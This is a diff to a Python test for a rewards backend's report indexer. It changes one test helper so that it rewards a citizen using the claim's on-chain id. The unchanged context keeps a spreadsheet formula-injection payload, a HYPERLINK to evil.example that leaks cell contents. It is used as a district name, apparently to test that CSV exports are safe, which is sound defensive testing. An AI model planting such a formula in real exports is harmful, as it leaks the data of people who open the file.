@@ -6,6 +6,8 @@ from __future__ import annotations
 import csv
 import io
 
+from backend.db import transaction
+from backend.rewards.installation import claim_ids
 from backend.runtime import Runtime
 from tests.backend.indexer.coin import new_account
 from tests.backend.reports.conftest import coin, make_indexer  # noqa: F401 - fixtures used by name
@@ -17,7 +19,9 @@ FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Klik hier")'
 def _rewarded_in_formula_district(runtime: Runtime, coin, make_indexer, w3) -> None:  # noqa: F811
     citizen = new_account(w3)
     claim = approved_claim(runtime, citizen.address, district=FORMULA, minutes=60)
-    coin.reward(citizen.address, 1500, claim)
+    with transaction(runtime.sessions) as session:  # the claim's on-chain id, as the sender builds it
+        onchain_claim = claim_ids(session).onchain_int(claim)
+    coin.reward(citizen.address, 1500, onchain_claim)
     make_indexer().run_until_idle()
 
 
